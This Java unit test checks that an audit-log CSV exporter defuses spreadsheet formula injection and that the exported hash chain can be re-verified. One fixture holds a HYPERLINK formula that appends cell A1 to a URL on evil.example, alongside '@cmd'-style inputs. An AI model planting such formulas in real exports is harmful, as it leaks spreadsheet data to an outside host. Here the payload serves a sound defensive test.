package com.teaminbox.server.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class AuditExportCellTest {

    @Test
    void plainTextStaysAsItIs() {
        assertEquals("conversation.claimed", AuditExport.cell("conversation.claimed"));
        assertEquals("", AuditExport.cell(null));
    }

    @Test
    void commasQuotesAndLineBreaksAreQuoted() {
        assertEquals("\"from=1, to=2\"", AuditExport.cell("from=1, to=2"));
        assertEquals("\"say \"\"hi\"\"\"", AuditExport.cell("say \"hi\""));
        assertEquals("\"two\nlines\"", AuditExport.cell("two\nlines"));
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasAreDefused() {
        assertEquals("\"'=HYPERLINK(\"\"x\"\")\"", AuditExport.cell("=HYPERLINK(\"x\")"));
        assertEquals("'+1", AuditExport.cell("+1"));
        assertEquals("'@cmd", AuditExport.cell("@cmd"));
    }

    @Test
    void tabsAndCarriageReturnsAtTheStartAreDefusedToo() {
        assertEquals("'\tcmd", AuditExport.cell("\tcmd"));
        assertEquals("\"'\rcmd\"", AuditExport.cell("\rcmd"));
        assertEquals("'-2", AuditExport.cell("-2"));
    }

    @Test
    void theChainRecomputedFromTheExportedRawFieldsMatches() throws Exception {
        String[][] entries = {
                {"alice", "conversation.noted", "conversation", "17", null, "=HYPERLINK(\"http://evil.example/?\"&A1, \"open\")"},
                {"@bob", "agent.edited", "agent", "-5", "\tdesk", "capacity 3 -> 5, \"quoted\"\r\nnext line"},
                {"maria", "conversation.claimed", "conversation", "18", "4930123456:7", ""},
        };
        StringBuilder csv = new StringBuilder(AuditExport.HEADER);
        String previous = AuditTrail.GENESIS;
        Instant at = Instant.parse("2026-12-07T10:15:30.123456Z");
        for (int i = 0; i < entries.length; i++) {
            String[] e = entries[i];
            Instant when = at.plusSeconds(i * 60L);
            String hash = AuditTrail.hash(previous, when, e[0], e[1], e[2], e[3], e[4], e[5]);
            csv.append(AuditExport.line(i + 1, OffsetDateTime.ofInstant(when, ZoneOffset.UTC), e[0], e[1], e[2], e[3], e[4], e[5], previous, hash));
            previous = hash;
        }

        List<List<String>> rows = parse(csv.toString());
        List<String> header = rows.get(0);
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1, \"open\")", rows.get(1).get(header.indexOf("details")),
                "the detail is shown guarded");
        assertEquals("'@bob", rows.get(2).get(header.indexOf("actor")));

        // What an auditor does offline: raw value = raw_fields[column] when present, else the cell.
        ObjectMapper json = new ObjectMapper();
        String expectedPrevious = AuditTrail.GENESIS;
        for (List<String> row : rows.subList(1, rows.size())) {
            String rawFields = row.get(header.indexOf("raw_fields"));
            JsonNode raw = rawFields.isEmpty() ? json.createObjectNode() : json.readTree(rawFields);
            java.util.function.Function<String, String> field = name ->
                    raw.has(name) ? raw.get(name).asText() : row.get(header.indexOf(name));
            assertEquals(expectedPrevious, field.apply("previous_hash"));
            String recomputed = AuditTrail.hash(field.apply("previous_hash"),
                    OffsetDateTime.parse(row.get(header.indexOf("occurred_at"))).toInstant(),
                    field.apply("actor"), field.apply("action"), field.apply("subject_type"),
                    field.apply("subject_id"), field.apply("device"), field.apply("details"));
            assertEquals(field.apply("hash"), recomputed, "entry " + row.get(0) + " verifies from the CSV alone");
            expectedPrevious = recomputed;
        }
        assertTrue(rows.get(3).get(header.indexOf("raw_fields")).isEmpty(), "nothing guarded, nothing repeated");
    }

    /** RFC 4180 as a spreadsheet or Python's csv module reads it. */
    private static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                cell.append(c);
            }
        }
        return rows;
    }
}
